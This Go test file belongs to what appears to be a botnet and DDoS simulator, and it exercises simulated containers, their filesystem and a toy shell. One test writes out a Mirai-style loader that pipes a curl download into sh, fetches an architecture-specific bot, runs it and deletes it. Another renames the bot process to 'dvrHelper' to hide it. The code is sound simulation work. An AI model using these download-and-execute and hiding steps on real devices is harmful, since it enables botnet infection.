package container

import (
	"errors"
	"strings"
	"testing"

	"ddosim/internal/netsim"
	"ddosim/internal/shttp"
	"ddosim/internal/sim"
)

// stubBehavior counts lifecycle calls and optionally binds ports.
type stubBehavior struct {
	name     string
	ports    []uint16
	started  int
	stopped  int
	lastProc *Process
}

func (s *stubBehavior) Name() string { return s.name }

func (s *stubBehavior) Start(p *Process) {
	s.started++
	s.lastProc = p
	for _, port := range s.ports {
		if _, err := p.ListenTCP(port, func(*netsim.TCPConn) {}); err != nil {
			p.Logf("listen %d: %v", port, err)
		}
	}
}

func (s *stubBehavior) Stop(*Process) { s.stopped++ }

type testRig struct {
	sched  *sim.Scheduler
	star   *netsim.Star
	engine *Engine
}

func newRig(t testing.TB) *testRig {
	t.Helper()
	sched := sim.NewScheduler(9)
	w := netsim.New(sched)
	star := netsim.NewStar(w)
	return &testRig{sched: sched, star: star, engine: NewEngine(sched, star)}
}

func devImage(arch string) *Image {
	return &Image{
		Name: "ddosim/dev-test",
		Tag:  "1.0",
		Arch: arch,
		Files: map[string][]byte{
			"/usr/sbin/testd": BinaryContent("testd", arch),
		},
		ExecPaths:  map[string]bool{"/usr/sbin/testd": true},
		Entrypoint: []string{"/usr/sbin/testd"},
		ExtraBytes: 4 << 20,
	}
}

func (r *testRig) link() LinkConfig {
	return LinkConfig{Rate: 10 * netsim.Mbps, Delay: sim.Millisecond}
}

func TestContainerLifecycle(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "testd"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))

	c, err := r.engine.Create("ddosim/dev-test:1.0", "dev-1", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if c.Running() {
		t.Fatal("container running before Start")
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if stub.started != 1 {
		t.Fatalf("entrypoint started %d times", stub.started)
	}
	procs := c.Procs()
	if len(procs) != 1 || procs[0].Title() != "testd" {
		t.Fatalf("procs = %v", procs)
	}
	c.Stop()
	if stub.stopped != 1 {
		t.Fatalf("stopped %d times", stub.stopped)
	}
	if len(c.Procs()) != 0 {
		t.Fatal("process table not empty after Stop")
	}
	if c.Node().DefaultDevice().IsUp() {
		t.Fatal("link still up after Stop")
	}
}

func TestCreateErrors(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterImage(devImage("x86_64"))
	if _, err := r.engine.Create("missing:tag", "x", r.link()); err == nil {
		t.Fatal("unknown image accepted")
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "dup", r.link()); err != nil {
		t.Fatal(err)
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "dup", r.link()); err == nil {
		t.Fatal("duplicate name accepted")
	}
	if _, err := r.engine.Create("ddosim/dev-test:1.0", "norate", LinkConfig{}); err == nil {
		t.Fatal("zero rate accepted")
	}
}

func TestExecFormatChecks(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, err := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}

	// Wrong arch.
	c.FS().Write("/tmp/armbin", BinaryContent("testd", "arm7"))
	if err := c.FS().Chmod("/tmp/armbin", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/armbin", nil); err == nil || !strings.Contains(err.Error(), "exec format error") {
		t.Fatalf("arm binary on x86 container: err = %v", err)
	}
	// No exec bit.
	c.FS().Write("/tmp/noexec", BinaryContent("testd", "x86_64"))
	if _, err := c.ExecFile("/tmp/noexec", nil); err == nil || !strings.Contains(err.Error(), "permission denied") {
		t.Fatalf("no-exec-bit: err = %v", err)
	}
	// Not a binary.
	c.FS().Write("/tmp/script", []byte("echo hi"))
	if err := c.FS().Chmod("/tmp/script", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/script", nil); err == nil {
		t.Fatal("non-ELF content executed")
	}
	// Missing file.
	if _, err := c.ExecFile("/tmp/nothing", nil); err == nil {
		t.Fatal("missing file executed")
	}
	// Unregistered binary name.
	c.FS().Write("/tmp/ghost", BinaryContent("ghostd", "x86_64"))
	if err := c.FS().Chmod("/tmp/ghost", true); err != nil {
		t.Fatal(err)
	}
	if _, err := c.ExecFile("/tmp/ghost", nil); err == nil {
		t.Fatal("unknown binary executed")
	}
}

func TestFindByTCPPortAndKill(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "telnetd", ports: []uint16{23}}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return stub })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	p := c.FindByTCPPort(23)
	if p == nil {
		t.Fatal("process with port 23 not found")
	}
	if c.FindByTCPPort(999) != nil {
		t.Fatal("found process for unbound port")
	}
	if !c.Kill(p.PID()) {
		t.Fatal("kill failed")
	}
	if c.Kill(p.PID()) {
		t.Fatal("double kill reported success")
	}
	if stub.stopped != 1 {
		t.Fatal("behavior.Stop not called")
	}
	// The listener is released: a new process can bind port 23.
	stub2 := &stubBehavior{name: "mirai", ports: []uint16{23}}
	c.Spawn(stub2)
	if got := c.FindByTCPPort(23); got == nil || got.Title() != "mirai" {
		t.Fatal("port 23 not rebindable after kill")
	}
}

func TestProcessTitleObfuscation(t *testing.T) {
	r := newRig(t)
	stub := &stubBehavior{name: "mirai"}
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	c.running = true
	p := c.Spawn(stub)
	p.SetTitle("dvrHelper")
	if c.Procs()[0].Title() != "dvrHelper" {
		t.Fatal("title not obfuscated")
	}
	p.SetMalware("mirai")
	if p.Malware() != "mirai" {
		t.Fatal("tag lost")
	}
}

func TestShellInfectionFlow(t *testing.T) {
	// Full flow: victim runs `curl -s URL | sh`; the served script
	// downloads an arch-specific bot binary, runs it, removes it.
	r := newRig(t)
	bot := &stubBehavior{name: "mirai"}
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterBinary("mirai", func(args []string) Behavior { return bot })
	r.engine.RegisterImage(devImage("x86_64"))

	c, err := r.engine.Create("ddosim/dev-test:1.0", "victim", r.link())
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}

	fileServer := r.star.AttachHost("fs", 10*netsim.Mbps, sim.Millisecond, 0)
	srv, err := shttp.NewServer(fileServer, 80)
	if err != nil {
		t.Fatal(err)
	}
	fsAddr := fileServer.Addr4().String()
	script := strings.Join([]string{
		"#!/bin/sh",
		"curl -s http://" + fsAddr + "/bins/mirai.$(uname -m) -o /tmp/.m",
		"chmod +x /tmp/.m",
		"/tmp/.m &",
		"rm -f /tmp/.m",
	}, "\n")
	srv.Handle("/i.sh", []byte(script))
	srv.Handle("/bins/mirai.x86_64", BinaryContent("mirai", "x86_64"))

	var shellErr error
	done := false
	c.RunShell("curl -s http://"+fsAddr+"/i.sh | sh", func(err error) {
		done, shellErr = true, err
	})
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done {
		t.Fatal("shell never completed")
	}
	if shellErr != nil {
		t.Fatalf("infection script failed: %v", shellErr)
	}
	if bot.started != 1 {
		t.Fatalf("bot started %d times", bot.started)
	}
	if c.FS().Exists("/tmp/.m") {
		t.Fatal("malware binary not removed after execution (Mirai hides itself)")
	}
	// The bot process survives the rm: it is already in memory.
	found := false
	for _, p := range c.Procs() {
		if p.Title() == "mirai" {
			found = true
		}
	}
	if !found {
		t.Fatal("bot process not in process table")
	}
}

func TestShellWrongArchDownloadFails(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterBinary("mirai", func(args []string) Behavior { return &stubBehavior{name: "mirai"} })
	img := devImage("arm7") // ARM container
	r.engine.RegisterImage(img)
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "victim", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	fileServer := r.star.AttachHost("fs", 10*netsim.Mbps, sim.Millisecond, 0)
	srv, err := shttp.NewServer(fileServer, 80)
	if err != nil {
		t.Fatal(err)
	}
	// Server only carries the x86 build.
	srv.Handle("/bot", BinaryContent("mirai", "x86_64"))
	var shellErr error
	c.RunShell(strings.Join([]string{
		"curl -s http://" + fileServer.Addr4().String() + "/bot -o /tmp/bot",
		"chmod +x /tmp/bot",
		"/tmp/bot",
	}, "\n"), func(err error) { shellErr = err })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr == nil || !strings.Contains(shellErr.Error(), "exec format error") {
		t.Fatalf("x86 bot ran on ARM container: err = %v", shellErr)
	}
}

func TestShellCommandErrors(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	run := func(script string) error {
		var got error
		done := false
		c.RunShell(script, func(err error) { done, got = true, err })
		if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
			t.Fatal(err)
		}
		if !done {
			t.Fatalf("script %q never finished", script)
		}
		return got
	}
	if err := run("rm /no/such/file"); err == nil {
		t.Fatal("rm missing file succeeded")
	}
	if err := run("rm -f /no/such/file"); err != nil {
		t.Fatalf("rm -f missing file failed: %v", err)
	}
	if err := run("chmod +x /no/such/file"); err == nil {
		t.Fatal("chmod missing file succeeded")
	}
	if err := run("curl"); err == nil {
		t.Fatal("curl without URL succeeded")
	}
	if err := run("echo hello\n# comment\n\ntrue"); err != nil {
		t.Fatalf("benign script failed: %v", err)
	}
	if err := run("cat /etc/passwd | sh"); err == nil {
		t.Fatal("unsupported pipeline accepted")
	}
	if err := run("sleep 0.1"); err != nil {
		t.Fatalf("sleep failed: %v", err)
	}
	if err := run("sleep abc"); err == nil {
		t.Fatal("sleep with garbage duration succeeded")
	}
}

func TestShellCurlFailureAborts(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	var shellErr error
	done := false
	// Nothing listens at this address.
	c.RunShell("curl -s http://10.99.99.99/x | sh\necho unreachable", func(err error) {
		done, shellErr = true, err
	})
	if err := r.sched.Run(5 * sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done || shellErr == nil {
		t.Fatalf("done=%v err=%v, want curl failure", done, shellErr)
	}
	if !errors.Is(shellErr, shttp.ErrConnFailed) {
		t.Fatalf("err = %v, want connection failure", shellErr)
	}
}

func TestRemoveCommand(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	if !c.HasCommand("curl") {
		t.Fatal("curl missing by default")
	}
	c.RemoveCommand("curl")
	if c.HasCommand("curl") {
		t.Fatal("curl still present after removal")
	}
	var shellErr error
	done := false
	c.RunShell("curl -s http://10.9.9.9/x | sh", func(err error) { done, shellErr = true, err })
	if err := r.sched.Run(sim.Minute); err != nil {
		t.Fatal(err)
	}
	if !done || shellErr == nil || !strings.Contains(shellErr.Error(), "not found") {
		t.Fatalf("removed curl ran: done=%v err=%v", done, shellErr)
	}
	// Plain (non-piped) invocation is blocked too.
	c.RunShell("curl -s http://10.9.9.9/x -o /tmp/f", func(err error) { shellErr = err })
	if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr == nil {
		t.Fatal("non-piped curl ran after removal")
	}
	// Other commands still work.
	c.RunShell("echo ok", func(err error) { shellErr = err })
	if err := r.sched.Run(r.sched.Now() + sim.Minute); err != nil {
		t.Fatal(err)
	}
	if shellErr != nil {
		t.Fatalf("echo failed: %v", shellErr)
	}
}

func TestBuildMultiArch(t *testing.T) {
	base := devImage("x86_64")
	images, err := BuildMultiArch(base, []string{"x86_64", "arm7", "mips"})
	if err != nil {
		t.Fatal(err)
	}
	if len(images) != 3 {
		t.Fatalf("built %d images", len(images))
	}
	arm := images["arm7"]
	if arm.Arch != "arm7" {
		t.Fatalf("arch = %q", arm.Arch)
	}
	name, arch, ok := ParseBinary(arm.Files["/usr/sbin/testd"])
	if !ok || name != "testd" || arch != "arm7" {
		t.Fatalf("rewritten binary = %s/%s ok=%v", name, arch, ok)
	}
	// Base image untouched.
	_, arch, _ = ParseBinary(base.Files["/usr/sbin/testd"])
	if arch != "x86_64" {
		t.Fatal("BuildMultiArch mutated the base image")
	}
	if _, err := BuildMultiArch(base, nil); err == nil {
		t.Fatal("empty arch list accepted")
	}
}

func TestParseBinary(t *testing.T) {
	name, arch, ok := ParseBinary(BinaryContent("connmand", "mips"))
	if !ok || name != "connmand" || arch != "mips" {
		t.Fatalf("got %s/%s/%v", name, arch, ok)
	}
	if _, _, ok := ParseBinary([]byte("#!/bin/sh")); ok {
		t.Fatal("script parsed as binary")
	}
	if _, _, ok := ParseBinary([]byte("ELF:x")); ok {
		t.Fatal("malformed tag accepted")
	}
}

func TestFS(t *testing.T) {
	fs := NewFS()
	fs.Write("/a/b", []byte("data"))
	if got, ok := fs.Read("/a/b"); !ok || string(got) != "data" {
		t.Fatalf("read = %q %v", got, ok)
	}
	// Paths are normalized to absolute.
	if got, ok := fs.Read("a/b"); !ok || string(got) != "data" {
		t.Fatalf("relative read = %q %v", got, ok)
	}
	if fs.IsExec("/a/b") {
		t.Fatal("exec bit set by default")
	}
	if err := fs.Chmod("/a/b", true); err != nil || !fs.IsExec("/a/b") {
		t.Fatalf("chmod: %v", err)
	}
	if fs.TotalBytes() != 4 {
		t.Fatalf("TotalBytes = %d", fs.TotalBytes())
	}
	if got := fs.List(); len(got) != 1 || got[0] != "/a/b" {
		t.Fatalf("List = %v", got)
	}
	if err := fs.Remove("/a/b"); err != nil || fs.Exists("/a/b") {
		t.Fatalf("remove: %v", err)
	}
	if err := fs.Remove("/a/b"); err == nil {
		t.Fatal("double remove succeeded")
	}
}

func TestMemBytesGrowsWithDownloads(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	c, _ := r.engine.Create("ddosim/dev-test:1.0", "dev", r.link())
	if err := c.Start(); err != nil {
		t.Fatal(err)
	}
	before := c.MemBytes()
	c.FS().Write("/tmp/downloaded", make([]byte, 1<<20))
	after := c.MemBytes()
	if after <= before {
		t.Fatalf("mem did not grow with download: %d -> %d", before, after)
	}
	if r.engine.TotalMemBytes() != after {
		t.Fatalf("TotalMemBytes = %d, want %d", r.engine.TotalMemBytes(), after)
	}
}

func TestEngineStats(t *testing.T) {
	r := newRig(t)
	r.engine.RegisterBinary("testd", func(args []string) Behavior { return &stubBehavior{name: "testd"} })
	r.engine.RegisterImage(devImage("x86_64"))
	for i := 0; i < 3; i++ {
		c, err := r.engine.Create("ddosim/dev-test:1.0", "dev-"+string(rune('a'+i)), r.link())
		if err != nil {
			t.Fatal(err)
		}
		if err := c.Start(); err != nil {
			t.Fatal(err)
		}
	}
	st := r.engine.Stats()
	if st.ContainersBuilt != 3 || st.ImagesBuilt != 1 || st.ProcsSpawned != 3 {
		t.Fatalf("stats = %+v", st)
	}
	if len(r.engine.Containers()) != 3 {
		t.Fatal("Containers() length")
	}
	if _, ok := r.engine.ByName("dev-a"); !ok {
		t.Fatal("ByName lookup failed")
	}
}

// FuzzParseBinary feeds hostile file contents to ParseBinary, which
// the shell's exec path runs on every file it is asked to execute. An
// accepted file must re-encode through BinaryContent to one that
// parses to the same name and arch.
func FuzzParseBinary(f *testing.F) {
	f.Fuzz(func(t *testing.T, data []byte) {
		name, arch, ok := ParseBinary(data)
		if !ok {
			return
		}
		name2, arch2, ok := ParseBinary(BinaryContent(name, arch))
		if !ok || name2 != name || arch2 != arch {
			t.Fatalf("ParseBinary(%q) = %q %q, but its re-encoding gives %q %q %v", data, name, arch, name2, arch2, ok)
		}
	})
}
